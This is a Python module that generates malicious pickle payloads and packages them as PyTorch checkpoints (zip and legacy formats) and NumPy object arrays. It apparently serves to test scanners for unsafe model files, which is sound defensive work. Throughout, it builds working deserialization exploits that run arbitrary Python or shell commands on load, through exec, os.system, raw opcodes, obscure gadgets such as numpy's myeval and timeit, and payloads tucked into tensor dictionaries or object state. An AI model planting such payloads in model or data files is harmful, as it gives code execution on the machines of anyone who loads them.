"""Pickles and archives that run code where they are loaded."""

import io
import os
import pickle
import zipfile
from collections.abc import Callable
from typing import Any


class _Reduced:
    """Pickles as a call."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


def _by_names(module: str, name: str, text: str) -> bytes:
    """Return opcodes that call `module.name(text)`, of a module that need not be here."""
    return b"c" + f"{module}\n{name}\n(V{text}\ntR.".encode()


PICKLES: dict[str, Callable[[str, str], bytes]] = {
    "exec, protocol 4": lambda code, _: pickle.dumps(_Reduced(exec, code), 4),
    "exec, protocol 2": lambda code, _: pickle.dumps(_Reduced(exec, code), 2),
    "os.system, protocol 0": lambda _, shell: pickle.dumps(_Reduced(os.system, shell), 0),
    "INST": lambda _, shell: f"(V{shell}\nios\nsystem\n.".encode(),
    "OBJ": lambda _, shell: f"(cos\nsystem\nV{shell}\no.".encode(),
    "STACK_GLOBAL": lambda code, _: (
        b"\x80\x04\x8c\x08builtins\x8c\x04exec\x93" + pickle.dumps(code, 2)[2:-1] + b"\x85R."
    ),
    "numpy's evaluation": lambda code, _: _by_names("numpy.f2py.crackfortran", "myeval", code),
    "timeit": lambda code, _: _by_names("timeit", "timeit", code),
    "within tensors": lambda code, _: pickle.dumps({"weight": [_Reduced(eval, code)]}, 2),
    "getattr": lambda code, _: pickle.dumps(
        {
            "a": _Reduced(getattr, _Reduced(__import__, "builtins"), "exec"),
            "b": _Reduced(exec, code),
        }
    ),
    "as state": lambda code, _: (
        b"ccollections\nOrderedDict\n)R" + pickle.dumps(_Reduced(exec, code), 2)[2:-1] + b"b."
    ),
}
"""What calls, by what name -> the bytes, of Python code and a command of a shell."""


def torch_zip(content: bytes) -> bytes:
    """Return a pickle as what `torch.save` would have written."""
    return archive({"archive/data.pkl": content, "archive/version": b"3\n"})


def torch_legacy(content: bytes) -> bytes:
    """Return a pickle behind the heads of torch's older format."""
    magic = 0x1950A86A20F9469CFC6C
    heads = (magic, 1001, {"protocol_version": 1001, "little_endian": True})
    return b"".join(pickle.dumps(head, 2) for head in heads) + content


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "zip": torch_zip,
    "legacy": torch_legacy,
    "bare": bytes,
}


def archive(members: dict[str, bytes]) -> bytes:
    """Return a zip archive, in which names may be anything."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        for name, content in members.items():
            file.writestr(zipfile.ZipInfo(name), content)
    return buffer.getvalue()


def object_array(content: bytes) -> bytes:
    """Return an .npy file of objects, whose data are a pickle."""
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    head += b" " * (-(len(head) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + content
